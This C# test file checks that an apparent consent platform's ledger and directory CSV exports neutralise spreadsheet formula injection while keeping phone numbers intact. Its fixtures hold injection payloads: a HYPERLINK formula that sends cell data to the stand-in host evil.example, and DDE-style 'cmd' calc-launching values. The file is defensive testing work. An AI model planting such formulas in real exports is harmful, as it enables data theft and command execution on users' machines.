using System.Text;
using ConsentPlatform.Directory.Feeds;
using ConsentPlatform.Directory.Organizations;
using Microsoft.AspNetCore.Mvc.Testing;

namespace ConsentPlatform.Host.Tests.Trust;

/// <summary>Finding 6: what a visitor or an organization typed must not run as a spreadsheet formula in an export.</summary>
public sealed class CsvInjectionTests(ProductionHostFactory host) : IClassFixture<ProductionHostFactory>
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

    [Fact]
    public async Task A_formula_user_agent_is_neutralised_in_the_ledger_csv_while_phone_numbers_export_unchanged()
    {
        var (_, key) = await host.CreateOrganizationAsync("Csv K.K.");
        using var client = host.CreateClient(key.Key);
        var formId = await client.CreateEventAsync();
        using var browser = host.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
        browser.DefaultRequestHeaders.TryAddWithoutValidation("User-Agent", Formula);
        await browser.SubmitFormAsync(formId, new("channels", "email"), new("email", "csv@example.jp"));
        await browser.SubmitFormAsync(formId, new("channels", "sms"), new("phone", "090-4444-0606"));

        var csv = await client.GetStringAsync("/api/consent/ledger?format=csv");

        var rows = ReadCsv(csv);
        Assert.Equal(2, rows.Count);
        Assert.All(rows, r => Assert.Equal("'" + Formula, r["user_agent"]));
        Assert.Contains(rows, r => r["contact"] == "+819044440606");
    }

    [Fact]
    public void Directory_csv_feed_neutralises_every_formula_cell_but_keeps_e164_numbers()
    {
        var profile = new DirectoryProfile("org_1", 1, "@SUM(1+1)*cmd", ["+cmd|' /C calc'!A0"], null, null, null, null, null, TrustHelpers.FeedTime);

        var row = ReadCsv(Encoding.UTF8.GetString(CsvFeedWriter.Write([TrustHelpers.Published(profile, "-2+3+cmd", "=1+1")])).TrimStart('\uFEFF')).Single();

        Assert.Equal(("'@SUM(1+1)*cmd", "'+cmd|' /C calc'!A0", "'-2+3+cmd", "'=1+1"), (row["legal_name"], row["trade_names"], row["department"], row["purposes"]));
        Assert.Equal("+81312340000", row["phone_number"]);
    }

    private static List<Dictionary<string, string>> ReadCsv(string text)
    {
        var lines = ParseRecords(text);
        return lines.Skip(1).Select(l => lines[0].Zip(l).ToDictionary(p => p.First, p => p.Second)).ToList();
    }

    /// <summary>RFC 4180 records (quoted fields may hold commas, quotes and line breaks).</summary>
    private static List<List<string>> ParseRecords(string text)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { record.Add(field.ToString()); field.Clear(); }
            else if (c == '\n')
            {
                record.Add(field.ToString().TrimEnd('\r'));
                field.Clear();
                records.Add(record);
                record = [];
            }
            else field.Append(c);
        }
        if (field.Length > 0 || record.Count > 0) { record.Add(field.ToString()); records.Add(record); }
        return records;
    }
}
